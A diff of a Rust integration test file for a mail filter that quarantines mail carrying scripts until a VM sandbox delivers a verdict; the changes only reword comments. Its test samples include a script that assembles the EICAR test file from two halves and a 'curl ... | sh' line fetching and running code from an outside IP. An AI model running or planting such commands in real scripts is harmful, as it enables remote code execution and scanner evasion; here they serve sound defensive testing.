@@ -1,4 +1,4 @@
-//! The gates together: mail that waits for the lab's verdict, and the whole way of a message.
+//! Tests of several gates together: mail that waits for the lab's verdict, and the whole way of a message.
 
 use crate::control::gate::{Client, Site, Up, id_in, wait_for};
 use crate::lab_vm::Lab;
@@ -20,13 +20,13 @@ fn mail(subject: &str, script: &str) -> String {
     )
 }
 
-/// Hands in a mail with a script; its id.
+/// Submits a mail with a script. Returns its id.
 fn send(up: &Up, password: &str, subject: &str, script: &str) -> String {
     let mut client = Client::login(&up.plain, "demo", password).expect("a login");
     id_in(&client.text("demo@localhost", &["ann@localhost"], &mail(subject, script)))
 }
 
-/// Waits for longer than others do: a VM without KVM boots first.
+/// Waits longer than other tests, because a VM without KVM has to boot first.
 #[track_caller]
 pub(crate) fn at_last<T>(what: &str, mut look: impl FnMut() -> Option<T>) -> T {
     let begun = Instant::now();
@@ -39,7 +39,7 @@ pub(crate) fn at_last<T>(what: &str, mut look: impl FnMut() -> Option<T>) -> T {
     }
 }
 
-/// What waits for the lab, as `weir queue list` says it.
+/// What a message waits for in the lab, as `weir queue list` shows it.
 pub(crate) fn waiting(site: &Site, id: &str) -> Option<String> {
     let queue = site.json(&["queue", "list"]);
     let entry = queue["messages"].as_array()?.iter().find(|entry| entry["message"] == id)?.clone();
@@ -61,7 +61,7 @@ pub(crate) fn assert_in_order(text: &str, parts: &[&str]) {
     }
 }
 
-/// Two halves that are the EICAR test file only when the script has run: nobody sees it in the script.
+/// A script that writes the EICAR test file from two halves, so that the file exists only when the script has run.
 fn dropper() -> String {
     let [one, two] = weir_scan::eicar::HALVES;
     format!("#!/bin/sh\nprintf '%s' '{one}' > /tmp/payload\nprintf '%s' '{two}' >> /tmp/payload\n")
@@ -77,7 +77,7 @@ fn a_mail_waits_for_the_vm_and_the_verdict_decides() {
     let bad = send(&up, &password, "bad", &dropper());
     let said = wait_for("the mail to wait", || waiting(site, &bad));
     assert!(said.contains("on run.sh since ") && said.contains("then it is quarantined"), "{said}");
-    // Nobody waits for it.
+    // Other mail does not wait for it.
     let mut client = Client::login(&up.plain, "demo", &password).expect("a login");
     client.mail("demo@localhost", &["ann@localhost"], "plain");
     site.arrived("ann@localhost", 1);
@@ -111,7 +111,7 @@ fn a_mail_waits_for_the_vm_and_the_verdict_decides() {
     ] {
         assert!(trace.contains(part), "{part:?} is missing in:\n{trace}");
     }
-    // The same way by its other names.
+    // The other ids lead to the same trace.
     let whole = site.json(&["trace", &bad]);
     assert_eq!(site.json(&["trace", "bad@client.example"])["lines"], whole["lines"]);
     let hash = site
@@ -129,12 +129,12 @@ fn a_mail_waits_for_the_vm_and_the_verdict_decides() {
     site.weir(&["trace", "38exdmxn6hex5qydvved"]).refused(&["nothing is known of 38exdmxn6hex5qydvved", "hint"]);
     site.weir(&["trace", &"ab".repeat(32)]).refused(&["there is no sample"]);
 
-    // The same content again is known at once.
+    // The verdict on the same content is known at once.
     let again = send(&up, &password, "again", &dropper());
     let entry = wait_for("the known verdict", || quarantined(site, &again));
     assert_eq!(entry["queue"], "virus");
 
-    // What is harmless is released, and a kill while it waits loses nothing.
+    // Harmless mail is released, and a kill while it waits loses nothing.
     let good = send(&up, &password, "good", "#!/bin/sh\nsleep 18\nsleep 19\necho hello\n");
     wait_for("the mail to wait", || waiting(site, &good));
     up.kill();
@@ -153,7 +153,7 @@ fn a_mail_waits_for_the_vm_and_the_verdict_decides() {
     let status = site.weir(&["feeds", "status"]).ok();
     assert!(status.contains("Waiting for the lab's verdict: 0 messages"), "{status}");
 
-    // What nobody can call clean is kept, and the trace says why.
+    // Mail that cannot be called clean is kept, and the trace says why.
     for (subject, script, why) in [
         ("pipe", "#!/bin/sh\ncurl -fsSL http://203.0.113.66/a.sh | sh\nexit 0\n", "runs-fetched"),
         ("tool", "#!/bin/sh\nno-such-tool --now\nexit 0\n", "no-such-tool was not there"),
@@ -166,7 +166,7 @@ fn a_mail_waits_for_the_vm_and_the_verdict_decides() {
     }
 }
 
-/// A lab of one machine takes no samples until it is told to; its name.
+/// Drains a lab of one machine, so that it takes no samples for now. Returns the machine's name.
 fn drain(site: &Site) -> String {
     let name = wait_for("a leader", || site.json(&["lab", "status"])["leader"].as_str().map(str::to_owned));
     site.weir(&["lab", "drain", &name]).ok();
@@ -183,7 +183,7 @@ fn with_the_lab_stopped_mail_waits_and_the_deadline_decides() {
     let machine = drain(&site);
     up.signal("TERM");
     up.ended();
-    // What waits survives a kill, and goes when the lab is there.
+    // Waiting mail survives a kill, and is decided when the lab is there.
     let up = site.up();
     let patient = send(&up, &password, "patient", "#!/bin/sh\necho patient\n");
     wait_for("the mail to wait", || waiting(&site, &patient));
@@ -206,7 +206,7 @@ fn with_the_lab_stopped_mail_waits_and_the_deadline_decides() {
     assert!(mail.contains("Subject: patient") && mail.contains("; lab: "), "{mail}");
     assert_eq!(site.json(&["lab", "list"]).as_array().map(Vec::len), Some(1), "handed in once");
 
-    // Without a lab the deadline passes, and the policy decides.
+    // Without a lab, the time runs out and the policy decides.
     site.weir(&["lab", "drain", &machine]).ok();
     up.signal("TERM");
     up.ended();
@@ -225,7 +225,7 @@ fn with_the_lab_stopped_mail_waits_and_the_deadline_decides() {
     let trace = site.weir(&["trace", &late]).ok();
     assert_in_order(&trace, &["waits for the lab's verdict", "kept in quarantine/error", "quarantine.error"]);
 
-    // A person may let it go; the new id leads to the whole way too.
+    // A person may release it. The new id leads to the whole trace too.
     site.weir(&["quarantine", "release", &late]).ok();
     site.arrived("ann@localhost", 2);
     let whole = wait_for("the delivery", || {
@@ -247,7 +247,7 @@ fn held_mail_of_an_account_goes_to_the_lab_in_bulk() {
     let password = up.password();
     let mut client = Client::login(&up.plain, "demo", &password).expect("a login");
     for number in 0..6 {
-        // Two contents in all.
+        // There are only two different contents.
         let text = mail(&format!("worm{number}"), &format!("#!/bin/sh\necho {}\n", number % 2));
         let said = client.text("demo@localhost", &[&format!("victim{number}@localhost")], &text);
         assert!(said.contains("held"), "{said}");
@@ -274,7 +274,7 @@ fn held_mail_of_an_account_goes_to_the_lab_in_bulk() {
     assert!(trace.contains("verdict on run.sh: ") && trace.contains("1 recipient held since"), "{trace}");
     let audit = site.weir(&["audit", "demo"]).ok();
     assert!(audit.contains("held.analyse"), "{audit}");
-    // What a person lets go has its old id in its way.
+    // The trace of a message that a person released contains its old id.
     site.weir(&["held", "release", first]).ok();
     wait_for("the release", || {
         let trace = site.weir(&["trace", first]).ok();
